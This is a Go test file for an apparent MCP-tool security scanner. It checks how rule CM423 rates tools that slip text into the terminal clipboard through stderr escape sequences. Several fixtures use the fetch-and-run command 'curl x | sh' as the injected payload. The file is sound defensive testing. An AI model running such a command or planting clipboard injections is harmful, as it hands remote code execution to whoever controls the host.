package rules

import (
	"encoding/json"

	"github.com/coalmine-dev/coalmine/analyze/detect"
	"github.com/coalmine-dev/coalmine/analyze/finding"
	"github.com/coalmine-dev/coalmine/sandbox/mcp/wire"
)

// writing is a run of a tool that wrote a sequence to stderr.
func writing(tool wire.Tool, kind, payload, args string) *Run {
	r := newRun(tool)
	r.Args[1] = json.RawMessage(args)
	r.Sequences = []Sequence{{Kind: kind, Payload: payload, Severity: finding.High, Phase: finding.PhaseCall, Fact: Fact{Tool: tool.Name, Call: 1, Text: "stderr puts “x” into the clipboard"}}}
	return r
}

var copying = described("copy", "Puts a text into the clipboard of the terminal.")

// saysClipboard is a run in which a message puts what a call gave into the clipboard.
func saysClipboard(tool wire.Tool) *Run {
	return with(newRun(tool), func(r *Run) {
		r.Wire.Detected = detecting("CM423").Wire.Detected
		r.Wire.Detected[0].Tool, r.Wire.Detected[0].Given = tool.Name, true
	})
}

var ofSequences = []ruleCase{
	{"CM423", "a command into the clipboard", writing(note, detect.ClipboardKind, "curl x | sh", `{}`), finding.High},
	{"CM423", "what the call gave", writing(note, detect.ClipboardKind, "a text", `{"text":"a text"}`), finding.Medium},
	{"CM423", "what the call gave, as declared", writing(copying, detect.ClipboardKind, "a text", `{"text":"a text"}`), ""},
	{"CM423", "another text than the call gave", writing(copying, detect.ClipboardKind, "curl x | sh", `{"text":"a text"}`), finding.High},
	{"CM423", "keys", writing(copying, "keys", "", `{}`), finding.High},
	{"CM423", "in a message", detecting("CM423"), finding.Medium},
	{"CM423", "in a message, as declared", saysClipboard(copying), ""},
	{"CM423", "in a message, undeclared", saysClipboard(note), finding.Medium},
	{"CM423", "none", detecting("CM410"), ""},
}
